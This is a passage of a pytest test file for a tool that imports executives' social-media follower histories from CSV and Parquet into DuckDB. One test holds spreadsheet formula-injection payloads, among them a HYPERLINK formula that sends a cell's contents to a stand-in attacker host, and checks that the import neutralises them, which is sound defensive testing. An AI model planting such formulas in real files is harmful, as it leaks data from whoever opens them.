        "account_handle,platform,date,followers,following\n JoeKaeser , x , 2026-01-01 , 7 , 3 \n",
        "clean.csv",
    )
    outcome = import_history(con, clean, ROSTER, tmp_path / "q", today=TODAY)
    assert (outcome.rows_read, outcome.rows_loaded, outcome.errors) == (1, 1, [])

    short = write_csv(
        tmp_path,
        "account_handle,platform,date,followers\nJoeKaeser,x,2026-01-02,8\nJoeKaeser,x\n",
        "short.csv",
    )
    outcome = import_history(con, short, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_read, outcome.rows_loaded, outcome.rows_rejected) == (2, 1, 1)
    assert [(e.row, e.column, e.reason) for e in outcome.errors] == [(3, "date", "is empty")]
    assert imported(con) == [
        ("x", "JoeKaeser", date(2026, 1, 1), 7, 3, None),
        ("x", "JoeKaeser", date(2026, 1, 2), 8, None, None),
    ]


def test_clean_file_keys_are_normalised_to_the_roster_spelling(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers\n"
        "joekaeser,X,2026-01-01,7\n"
        "JOEKAESER,x,2026-01-02,8\n"
        "Joe.Bsky.Social,Bluesky,2026-01-02,9\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert (outcome.rows_read, outcome.rows_loaded, outcome.errors) == (3, 3, [])
    assert outcome.platforms == ["bluesky", "x"]
    assert [row[:4] for row in imported(con)] == [
        ("bluesky", "joe.bsky.social", date(2026, 1, 2), 9),
        ("x", "JoeKaeser", date(2026, 1, 1), 7),
        ("x", "JoeKaeser", date(2026, 1, 2), 8),
    ]


def test_a_file_dropped_twice_under_one_name_keeps_both_imported_copies(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    inbox = tmp_path / "history"
    inbox.mkdir()
    for followers in (7, 8):
        write_csv(
            inbox,
            f"account_handle,platform,date,followers\nJoeKaeser,x,2026-01-01,{followers}\n",
            "a.csv",
        )
        import_folder(con, inbox, ROSTER, tmp_path / "q")

    kept = sorted(p.read_text() for p in (inbox / "imported").iterdir())
    assert [text.splitlines()[-1] for text in kept] == [
        "JoeKaeser,x,2026-01-01,7",
        "JoeKaeser,x,2026-01-01,8",
    ]
    assert con.execute("select followers from raw.imported_metrics").fetchall() == [(8,)]


class _FailingHistoryLedger:
    """A connection whose write to raw.history_imports fails: the last step of an import."""

    def __init__(self, con: duckdb.DuckDBPyConnection) -> None:
        self._con = con

    def execute(self, sql: str, *args: object) -> duckdb.DuckDBPyConnection:
        if sql.startswith("insert into raw.history_imports"):
            raise duckdb.IOException("disk full (injected)")
        return self._con.execute(sql, *args)

    def __getattr__(self, name: str) -> object:
        return getattr(self._con, name)


def test_a_rolled_back_import_leaves_no_rows_and_no_quarantine_report(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(tmp_path, GOOD_AND_BAD)
    quarantine = tmp_path / "quarantine"

    with pytest.raises(duckdb.IOException, match="injected"):
        import_history(_FailingHistoryLedger(con), path, ROSTER, quarantine, today=TODAY)  # type: ignore[arg-type]

    assert imported(con) == []
    assert not quarantine.exists() or not any(quarantine.rglob("report.json"))
    outcome = import_history(con, path, ROSTER, quarantine, today=TODAY)
    assert outcome.rows_loaded == 3
    assert len(list(quarantine.rglob("report.json"))) == 1


class _WarehouseFaultOnInsert:
    """A connection whose insert of the file's rows meets a fault of the warehouse (DuckDB's
    out-of-memory or a full disk's I/O error, as a memory limit or a full volume gives)."""

    def __init__(self, con: duckdb.DuckDBPyConnection, fault: Exception) -> None:
        self._con = con
        self._fault = fault

    def execute(self, sql: str, *args: object) -> duckdb.DuckDBPyConnection:
        if "insert into raw.imported_metrics" in sql:
            raise self._fault
        return self._con.execute(sql, *args)

    def __getattr__(self, name: str) -> object:
        return getattr(self._con, name)


@pytest.mark.parametrize(
    "fault",
    [
        duckdb.OutOfMemoryException("Out of Memory Error: could not allocate block of 256 KiB"),
        duckdb.IOException('IO Error: Could not write file "warehouse.duckdb": No space left'),
    ],
    ids=["out-of-memory", "disk-full"],
)
def test_a_warehouse_fault_mid_import_is_raised_and_the_file_stays_in_the_inbox(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, fault: Exception
) -> None:
    # It was taken for the file's ("cannot be parsed"): a good file went to quarantine and
    # the task succeeded, so Airflow never retried it.
    inbox = tmp_path / "history"
    inbox.mkdir()
    write_csv(inbox, "account_handle,platform,date,followers\nJoeKaeser,x,2026-01-01,7\n", "a.csv")

    with pytest.raises(type(fault)):
        import_folder(_WarehouseFaultOnInsert(con, fault), inbox, ROSTER, tmp_path / "q")  # type: ignore[arg-type]

    assert sorted(p.name for p in inbox.iterdir()) == ["a.csv"]
    assert not (tmp_path / "q").exists()
    assert imported(con) == []
    assert [o.rows_loaded for o in import_folder(con, inbox, ROSTER, tmp_path / "q")] == [1]


ROSTER_WITH_YOUTUBE = Roster(
    executives=[*ROSTER.executives],
    accounts=[*ROSTER.accounts, Account("satya", "youtube", "@LeaderTalks")],
)
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"open")'


def test_formula_cells_stay_raw_in_the_warehouse_and_are_neutralised_in_rejected_rows(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # YouTube handles start with '@': a real handle that a spreadsheet would take for a
    # formula. The other cells are the payloads an attacker would drop into a history file.
    path = write_csv(
        tmp_path,
        "executive_id,account_handle,platform,date,followers,following,posts\n"
        ",@LeaderTalks,youtube,2026-01-01,100,,\n"
        ",@LeaderTalks,youtube,2026-13-01,5,,\n"
        f',"{HYPERLINK.replace(chr(34), chr(34) * 2)}",x,2026-01-02,5,,\n'
        "@SUM(A1:A9),,x,2026-01-03,5,,\n"
        ",JoeKaeser,x,2026-01-04,-2+3,,\n"
        ',JoeKaeser,x,2026-01-05,5,"\t=1+1",\n'
        ',JoeKaeser,x,2026-01-06,5,,"\r=2+2"\n'
        ",JoeKaeser,x,2026-01-07,-5,,\n",
    )

    outcome = import_history(con, path, ROSTER_WITH_YOUTUBE, tmp_path / "q", today=TODAY)

    assert imported(con) == [("youtube", "@LeaderTalks", date(2026, 1, 1), 100, None, None)]
    assert [(e.row, e.column) for e in outcome.errors] == [
        (3, "date"),
        (4, "account_handle"),
        (5, "executive_id"),
        (6, "followers"),
        (7, "following"),
        (8, "posts"),
        # Its row starts on line 10: the carriage return quoted in line 8's cell breaks
        # the line, as the csv module and the survey intake count lines.
        (10, "followers"),
    ]
    assert outcome.quarantine_path is not None
    quarantine = Path(outcome.quarantine_path)
    with (quarantine / "rejected_rows.csv").open(encoding="utf-8", newline="") as handle:
        rejected = {int(row["line"]): row for row in csv.DictReader(handle)}
    assert rejected[3]["account_handle"] == "'@LeaderTalks"
    assert rejected[4]["account_handle"] == "'" + HYPERLINK
    assert rejected[5]["executive_id"] == "'@SUM(A1:A9)"
    assert rejected[6]["followers"] == "'-2+3"
    assert rejected[7]["following"] == "'\t=1+1"
    assert rejected[8]["posts"] == "'\r=2+2"
    # A plain number is no formula: the rejected value stays readable as a number.
    assert rejected[10]["followers"] == "-5"
    # report.json is no spreadsheet: it names the value exactly as the file had it.
    report = json.loads((quarantine / "report.json").read_text(encoding="utf-8"))
    assert HYPERLINK in report["errors"][1]["message"]


HANDLE_ROWS = [
    ("JoeKaeser", "x", "2026-01-01", 7),
    ("@JoeKaeser", "x", "2026-01-02", 8),
    ("someone_else", "x", "2026-01-02", 9),
    ("joe.bsky.social", "x", "2026-01-03", 9),
    ("JoeKaeser", "bluesky", "2026-01-03", 1),
    ("@Joe.Bsky.Social", "bluesky", "2026-01-04", 2),
]


def write_handle_rows(tmp_path: Path, suffix: str) -> Path:
    path = tmp_path / f"handles{suffix}"
    columns = list(zip(*HANDLE_ROWS, strict=True))
    if suffix == ".parquet":
        table = pa.table(
            {
                "account_handle": list(columns[0]),
                "platform": list(columns[1]),
                "date": [date.fromisoformat(d) for d in columns[2]],
                "followers": list(columns[3]),
            }
        )
        pq.write_table(table, path)
    else:
        lines = ["account_handle,platform,date,followers"]
        lines += [",".join(map(str, row)) for row in HANDLE_ROWS]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_profile_link_in_a_history_file_is_rejected_saying_to_write_the_handle(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path, "account_handle,platform,date,followers\nhttps://x.com/JoeKaeser,x,2026-01-01,7\n"
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    (error,) = outcome.errors
    assert error.column == "account_handle"
    assert error.reason == (
        "'https://x.com/JoeKaeser' is a link to 'JoeKaeser''s profile: write the handle, as "
        "the roster has it"
    )


@pytest.mark.parametrize(
    "delimiter", [",", ";"], ids=["a program's CSV", "German Excel's, rewritten"]
)
def test_an_unclosed_quote_is_refused_naming_its_line(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, delimiter: str
) -> None:
    # Read on, every line below the quote would be one cell: the rows there were lost.
    text = (
        "account_handle,platform,date,followers,note\n"
        "JoeKaeser,x,2026-01-01,7,\n"
        'JoeKaeser,x,2026-01-02,8,"quoted: growth\n'
        "JoeKaeser,x,2026-01-03,9,\n"
        "JoeKaeser,x,2026-01-04,10,\n"
    )
    path = write_csv(tmp_path, text.replace(",", delimiter))

    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert raised.value.reason == (
        "cannot be read as CSV: the row on line 3: a quote opened in this row is never closed "
        '(close it; a quote inside a quoted cell is written twice: "")'
    )
    assert con.execute("select count(*) from raw.imported_metrics").fetchone() == (0,)


def test_a_spreadsheet_csv_with_a_cell_over_the_limit_is_refused_and_the_inbox_goes_on(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # The csv module's error stopped the import of the inbox: the good file after it too,
    # in every run after.
    inbox = tmp_path / "history"
    inbox.mkdir()
    long_cell = "x" * 200_000
    write_csv(
        inbox,
        f"account_handle;platform;date;followers;note\nJoeKaeser;x;2026-01-01;7;{long_cell}\n",
        "a_long.csv",
    )
    write_csv(inbox, "account_handle,platform,date,followers\nJoeKaeser,x,2026-01-02,8\n", "b.csv")

    outcomes = import_folder(con, inbox, ROSTER, tmp_path / "q")

    assert [(o.file.rsplit("/", 1)[-1], o.refused, o.rows_loaded) for o in outcomes] == [
        ("a_long.csv", True, 0),
        ("b.csv", False, 1),
    ]
    assert (
        outcomes[0]
        .errors[0]
        .reason.startswith(
            "cannot be read as CSV: the row on line 2: field larger than field limit"
        )
    )


def test_title_and_blank_lines_above_the_header_are_left_out_and_lines_keep_their_numbers(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # An export's title block: a title, a date range, a blank line, then the table.
    path = write_csv(
        tmp_path,
        "Followers,,,\nDate range: 2026-01-01 - 2026-01-31,,,\n\n"
        "account_handle,platform,date,followers\n"
        "JoeKaeser,x,2026-01-01,64000\nJoeKaeser,x,2026-01-02,many\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(6, "followers")]
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 1), 64000, None, None)]


def test_a_spreadsheet_s_title_line_below_excel_s_separator_line_is_left_out(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = tmp_path / "verlauf.csv"
    path.write_bytes(
        "sep=;\r\nFollower-Verlauf Käser;;;\r\naccount_handle;platform;date;followers\r\n"
        "JoeKaeser;x;30.06.2025;64.000\r\nJoeKaeser;x;31.06.2025;6\r\n".encode("cp1252")
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(5, "date")]
    assert imported(con) == [("x", "JoeKaeser", date(2025, 6, 30), 64000, None, None)]


def test_a_file_with_no_line_naming_a_day_and_followers_says_what_its_first_holds(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "Followers,,,\nexecutive_id,platform,date,audience\njoe,x,2026-01-01,7\n",
    )

    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert raised.value.reason == (
        "header lacks required column(s): platform, date, executive_id or account_handle "
        "(none of the first 20 lines names both a day and followers; the first, read as the "
        "header, holds: 'Followers')"
    )


def test_a_header_below_a_title_line_that_lacks_a_column_is_named_as_the_header(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = write_csv(tmp_path, "Followers\naccount_handle,date,followers\nJoeKaeser,2026-01-01,7\n")

    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert raised.value.reason == "header lacks required column(s): platform"


@pytest.mark.parametrize(
    ("header", "said"),
    [
        ("account_handle,platform,date,followers,followers", "'followers' and 'followers'"),
        ("account_handle;platform;date;followers;Followers Count", "'followers' and"),
        ("Handle,handle,platform,date,followers", "'Handle' and 'handle'"),
    ],
    ids=["same-name", "alias-semicolon", "handle-twice"],
)
def test_a_header_naming_a_column_twice_is_refused_naming_both(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, header: str, said: str
) -> None:
    # The first was read and the other ignored, unsaid: a stale hidden column of a
    # spreadsheet won, or a row went to the executive of the second handle column.
    delimiter = ";" if ";" in header else ","
    row = delimiter.join(["JoeKaeser", "x", "2026-01-01", "7", "700"])
    if header.startswith("Handle"):
        row = "joe.bsky.social,JoeKaeser,x,2026-01-01,7"
    path = write_csv(tmp_path, f"{header}\n{row}\n")

    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert raised.value.reason.startswith("header names column ")
    assert said in raised.value.reason
    assert imported(con) == []


def test_a_workbook_saved_as_csv_is_refused_saying_so(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["executive_id", "platform", "date", "followers"])
    workbook.active.append(["joe", "x", "2026-01-01", 7])
    path = tmp_path / "history.csv"
    workbook.save(path)

    with pytest.raises(HistoryFileError, match=r"is a spreadsheet workbook \(XLSX or ODS"):
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)


def test_a_file_no_encoding_reads_is_refused_not_raised(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # Binary bytes (a NUL: no text) where Windows-1252 leaves 0x81 undefined: the import
    # folder quarantines a refused file, where a decoding error failed the task.
    path = tmp_path / "history.csv"
    path.write_bytes(b"executive_id,platform,date,followers\n\x00\x81\n")

    with pytest.raises(HistoryFileError, match=r"cannot be read as [\w-]+ text"):
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_an_at_sign_before_an_instagram_threads_or_facebook_handle_is_dropped(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, suffix: str
) -> None:
    # As the apps show these handles (@zuck), and as the roster reads them.
    roster = Roster(
        executives=ROSTER.executives,
        accounts=[
            Account("satya", "instagram", "satya.n"),
            Account("satya", "threads", "satya.n"),
            Account("joe", "facebook", "SiemensEnergy"),
        ],
    )
    rows = [
        ("@satya.n", "instagram", date(2026, 1, 1), 10),
        ("@Satya.N", "threads", date(2026, 1, 1), 20),
        ("@SiemensEnergy", "facebook", date(2026, 1, 1), 30),
    ]
    path = tmp_path / f"at_signs{suffix}"
    if suffix == ".parquet":
        columns = ["account_handle", "platform", "date", "followers"]
        pq.write_table(
            pa.table(dict(zip(columns, map(list, zip(*rows, strict=True)), strict=True))), path
        )
    else:
        lines = ["account_handle,platform,date,followers"]
        lines += [",".join(map(str, row)) for row in rows]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    outcome = import_history(con, path, roster, tmp_path / "q", today=TODAY)

    assert outcome.rows_rejected == 0
    assert [row[:4] for row in imported(con)] == [
        ("facebook", "SiemensEnergy", date(2026, 1, 1), 30),
        ("instagram", "satya.n", date(2026, 1, 1), 10),
        ("threads", "satya.n", date(2026, 1, 1), 20),
    ]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_handle_that_is_no_roster_account_of_its_platform_is_rejected(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, suffix: str
) -> None:
    # The clean-looking CSV takes the bulk path first, the Parquet file the checking path.
    path = write_handle_rows(tmp_path, suffix)

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert [row[:4] for row in imported(con)] == [
        ("bluesky", "joe.bsky.social", date(2026, 1, 4), 2),
        ("x", "JoeKaeser", date(2026, 1, 1), 7),
        ("x", "JoeKaeser", date(2026, 1, 2), 8),
    ]
    assert (outcome.rows_read, outcome.rows_loaded, outcome.rows_rejected) == (6, 3, 3)
    row_offset = 1 if suffix == ".csv" else 0
    assert [(e.row, e.column, e.reason) for e in outcome.errors] == [
        (3 + row_offset, "account_handle", "'someone_else' is not one of the roster's x accounts"),
        (4 + row_offset, "account_handle", "'joe.bsky.social' is not a valid x handle"),
        (5 + row_offset, "account_handle", "'JoeKaeser' is not a valid bluesky handle"),
    ]
    assert outcome.quarantine_path is not None
    report = json.loads((Path(outcome.quarantine_path) / "report.json").read_text())
    assert [error["field"] for error in report["errors"]] == ["account_handle"] * 3


def test_a_row_naming_only_an_executive_with_two_accounts_on_its_platform_is_rejected(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """An executive whose handle changed keeps both accounts in the roster (accounts belong
    to the executive, not to a version). Before: a row naming only the executive was loaded
    once per account, its followers credited to the old handle and the new, and the file
    counted one row more than it has. Which account is meant is not for the import to
    guess; a row naming the handle, old or new, still loads."""
    roster = Roster(
        executives=[
            Executive("joe", "J", "Chair", "S", "DE", "Industrials", False, date(2020, 1, 1)),
            Executive("joe", "J", "Chair", "S", "DE", "Industrials", False, date(2024, 1, 1)),
        ],
        accounts=[Account("joe", "x", "OldJoe"), Account("joe", "x", "NewJoe")],
    )
    path = write_csv(
        tmp_path,
        "executive_id,account_handle,platform,date,followers\n"
        "joe,,x,2025-01-01,5\n"
        ",oldjoe,x,2023-01-01,3\n"
        ",@newjoe,x,2025-01-02,6\n",
    )

    outcome = import_history(con, path, roster, tmp_path / "q", today=TODAY)

    assert [row[:4] for row in imported(con)] == [
        ("x", "OldJoe", date(2023, 1, 1), 3),
        ("x", "NewJoe", date(2025, 1, 2), 6),
    ]
    assert (outcome.rows_read, outcome.rows_loaded, outcome.rows_rejected) == (3, 2, 1)
    assert [(e.row, e.column, e.reason) for e in outcome.errors] == [
        (
            2,
            "executive_id",
            "executive 'joe' has 2 x accounts in the roster (NewJoe, OldJoe): "
            "name the account_handle",
        )
    ]


# --- spreadsheets -------------------------------------------------------------------------
#
# History kept in a spreadsheet and saved as CSV: German Excel's "CSV (Trennzeichen-
# getrennt)" (Windows-1252, ';', days as 30.06.2025, counts as 64.000), Mac Excel's (Mac
# Roman, lines ended by CR), Excel's "CSV (MS-DOS)" (DOS Latin-1), Excel's "Unicode Text"
# (UTF-16, tabs).
GERMAN_EXCEL = [
    "Konto;account_handle;platform;date;followers;following;posts",
    "Jörg;JoeKaeser;x;30.06.2025;64.000;250;4.100",
    "",
    "Jörg;satyanadella;linkedin;01.07.2025;11.000.000;;",
    "Jörg;JoeKaeser;x;31.06.2025;64.010;;",
    "Jörg;JoeKaeser;x;02.07.2025;1,5;;",
]


@pytest.mark.parametrize(
    ("encoding", "delimiter", "line_end"),
    [
        ("cp1252", ";", "\r\n"),
        ("mac_roman", ";", "\r"),
        ("cp850", ";", "\r\n"),
        ("utf-16", "\t", "\r\n"),
    ],
    ids=["german-excel", "mac-excel", "ms-dos-excel", "unicode-text"],
)
def test_a_spreadsheet_s_csv_loads_and_its_bad_rows_are_named_by_line(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, encoding: str, delimiter: str, line_end: str
) -> None:
    path = tmp_path / "verlauf.csv"
    lines = [line.replace(";", delimiter) for line in GERMAN_EXCEL]
    path.write_bytes((line_end.join(lines) + line_end).encode(encoding))

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert imported(con) == [
        ("linkedin", "satyanadella", date(2025, 7, 1), 11_000_000, None, None),
        ("x", "JoeKaeser", date(2025, 6, 30), 64_000, 250, 4_100),
    ]
    assert [(e.file, e.row, e.column) for e in outcome.errors] == [
        (str(path.resolve()), 5, "date"),
        (str(path.resolve()), 6, "followers"),
    ]
    assert (
        "'31.06.2025' is not a date (YYYY-MM-DD or YYYY/MM/DD, a time after it allowed, or "
        "DD.MM.YYYY)"
    ) in outcome.errors[0].reason


def test_a_spreadsheet_s_csv_without_a_required_column_names_the_file(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = tmp_path / "verlauf.csv"
    path.write_bytes("account_handle;platform;followers\r\nJoeKaeser;x;64.000\r\n".encode("cp1252"))

    with pytest.raises(HistoryFileError) as refused:
        import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert str(refused.value) == f"{path.resolve()}: header lacks required column(s): date"


def test_a_rejected_row_below_blank_lines_is_named_by_its_own_line(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """DuckDB skips blank lines: numbered by record, a row below one was named a line short."""
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers\n\nJoeKaeser,x,2026-01-01,5\n\n\n"
        "JoeKaeser,x,2026-13-01,5\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(6, "date")]
    with (Path(outcome.quarantine_path) / "rejected_rows.csv").open(newline="") as handle:
        assert [row["line"] for row in csv.DictReader(handle)] == ["6"]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_header_cell_with_a_line_break_is_the_header_and_rows_keep_their_lines(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, delimiter: str
) -> None:
    # Excel's Alt+Enter in a header cell: the header search read lines, took the line
    # below the break for the header and refused the file for columns it has.
    text = (
        'account_handle,platform,"Snapshot\r\ndate",Followers\r\n'
        "JoeKaeser,x,2025-06-01,5\r\n"
        "JoeKaeser,x,2025-06-02,x\r\n"
    )
    path = write_csv(tmp_path, text.replace(",", delimiter))

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert outcome.rows_loaded == 1
    assert [(e.row, e.column) for e in outcome.errors] == [(4, "followers")]


def test_rejected_rows_are_kept_as_the_file_has_them_with_their_reasons(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # They were kept as read: the documented names for the file's, the columns not read
    # left out, and an unquoted 64,000 as followers 64, its 000 lost.
    path = write_csv(
        tmp_path,
        "Export\n\nAccount Handle,Platform,Date,Followers,Source,Comment\n"
        "JoeKaeser,x,2025-06-01,64,000,LinkedIn export,ok\n"
        "JoeKaeser,x,2025-06-02,70,manual,fine\n"
        "JoeKaeser,x,2025-06-03,abc,manual,typed by hand\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert outcome.rows_loaded == 1
    with (Path(outcome.quarantine_path) / "rejected_rows.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == [
        "line", "error_field", "error",
        "Account Handle", "Platform", "Date", "Followers", "Source", "Comment", "column_7",
    ]  # fmt: skip
    assert rows[1][:2] == ["4", "row"]
    assert rows[1][3:] == ["JoeKaeser", "x", "2025-06-01", "64", "000", "LinkedIn export", "ok"]
    assert rows[2] == [
        "6", "followers", "followers: 'abc' is not a whole number >= 0",
        "JoeKaeser", "x", "2025-06-03", "abc", "manual", "typed by hand", "",
    ]  # fmt: skip


@pytest.mark.parametrize("key", ["account_handle", "executive_id"])
@pytest.mark.parametrize(("column", "count"), [("followers", "64.5"), ("following", "6.4000")])
def test_a_count_that_is_no_whole_number_is_rejected_not_rounded(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, key: str, column: str, count: str
) -> None:
    """DuckDB casts '64.5' to 65: read so, a decimal would load as another count. A count
    of 250.0, as pandas writes one in a column with gaps, is 250."""
    who = "JoeKaeser" if key == "account_handle" else "joe"
    counts = {"followers": "100", "following": "250.0", column: count}
    path = write_csv(
        tmp_path,
        f"{key},platform,date,followers,following\n"
        f"{who},x,2026-01-01,{counts['followers']},{counts['following']}\n"
        f"{who},x,2026-01-02,64000.0,250.0\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(2, column)]
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 2), 64_000, 250, None)]


def test_a_spreadsheet_s_csv_without_a_bad_row_reads_its_grouped_counts_whole(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """DuckDB's typed reader takes 64.000 for 64: a spreadsheet's CSV is read as text."""
    path = tmp_path / "verlauf.csv"
    # pandas' to_csv(sep=";", decimal=",") writes a count of a column with gaps as 250,0.
    path.write_bytes(
        b"account_handle;platform;date;followers;following\r\n"
        b"JoeKaeser;x;30.06.2025;64.000;250,0\r\n"
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert (outcome.rows_read, outcome.rows_loaded, outcome.rows_rejected) == (1, 1, 0)
    assert imported(con) == [("x", "JoeKaeser", date(2025, 6, 30), 64_000, 250, None)]


@pytest.mark.parametrize(
    ("followers", "following", "column"),
    [
        ("nan", "250", "followers"),
        ("99999999999999999999", "250", "followers"),
        ("100", "inf", "following"),
        ("100", "nan", "following"),
    ],
)
def test_a_count_duckdb_reads_as_a_number_but_no_count_is_its_row_s_error(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, followers: str, following: str, column: str
) -> None:
    path = write_csv(
        tmp_path,
        "account_handle,platform,date,followers,following\n"
        f"JoeKaeser,x,2026-01-01,{followers},{following}\nJoeKaeser,x,2026-01-02,5,6\n",
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(2, column)]
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 2), 5, 6, None)]


def test_a_spreadsheet_s_day_needs_its_four_digit_year(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """strptime reads 01.07.25 as the year 25."""
    path = tmp_path / "verlauf.csv"
    path.write_bytes(
        b"account_handle;platform;date;followers\r\n"
        b"JoeKaeser;x;01.07.25;5\r\nJoeKaeser;x;1.7.2025;6\r\n"
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(2, "date")]
    assert imported(con) == [("x", "JoeKaeser", date(2025, 7, 1), 6, None, None)]


def test_excel_s_separator_line_gives_the_delimiter_and_lines_keep_their_numbers(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = tmp_path / "verlauf.csv"
    path.write_bytes(
        b"sep=;\r\naccount_handle;platform;date;followers\r\n"
        b"JoeKaeser;x;2026-01-01;5\r\nJoeKaeser;x;2026-13-01;6\r\n"
    )

    outcome = import_history(con, path, ROSTER, tmp_path / "quarantine", today=TODAY)

    assert [(e.row, e.column) for e in outcome.errors] == [(4, "date")]
    assert imported(con) == [("x", "JoeKaeser", date(2026, 1, 1), 5, None, None)]


@pytest.mark.parametrize("suffix", [".csv", ".parquet", "empty rows"])
def test_a_history_file_of_a_header_alone_is_refused(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, suffix: str
) -> None:
    # Recorded as an import of 0 rows, exit 0: dropped in the inbox, it went to imported/
    # with nothing said, as if its history were in.
    path = tmp_path / f"history{suffix if suffix != 'empty rows' else '.csv'}"
    if suffix == ".csv":
        path.write_text("account_handle,platform,date,followers\n", encoding="utf-8")
    elif suffix == "empty rows":  # a spreadsheet's rows of empty cells below it (the review's)
        path.write_text("account_handle,platform,date,followers\n,,,\n,,,\n", encoding="utf-8")
    else:
        schema = pa.schema(
            [("account_handle", pa.string()), ("platform", pa.string()),
             ("date", pa.date32()), ("followers", pa.int64())]
        )  # fmt: skip
        pq.write_table(schema.empty_table(), path)

    with pytest.raises(HistoryFileError) as raised:
        import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    assert raised.value.reason == (
        "the file has no data rows (a header alone, or rows of empty cells)"
    )
    assert con.execute("select count(*) from raw.history_imports").fetchone() == (0,)


@pytest.mark.parametrize("quote", ["", '"'], ids=["unquoted", "quoted"])
@pytest.mark.parametrize("count", ["64.000", "2.50412E+08", "3E+06", "3e+06"])
def test_a_separator_or_exponent_past_the_sniffer_s_sample_is_refused_too(
    con: duckdb.DuckDBPyConnection, tmp_path: Path, count: str, quote: str
) -> None:
    # 25,000 plain rows, then one count written so: the sniffer's sample (the first 20,480
    # rows) held no decimals, the typed pass read the count as 64 or 250412000, and the
    # import said 0 rejected.
    days = [date(2020, 1, 1) + timedelta(days=n) for n in range(2_000)]
    rows = [f"JoeKaeser,x,{days[n % 2_000]},{1_000 + n}" for n in range(25_000)]
    rows[24_000] = f"JoeKaeser,x,2026-01-01,{quote}{count}{quote}"
    path = write_csv(tmp_path, "account_handle,platform,date,followers\n" + "\n".join(rows))

    outcome = import_history(con, path, ROSTER, tmp_path / "q", today=TODAY)

    [error] = outcome.errors
    assert (error.row, error.column) == (24_002, "followers")
    assert count in error.reason
    (loaded,) = con.execute(
        "select count(*) from raw.imported_metrics where snapshot_date = date '2026-01-01'"
    ).fetchone()
    assert loaded == 0


def test_a_parquet_optional_count_of_nan_is_not_known_and_its_row_loads(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
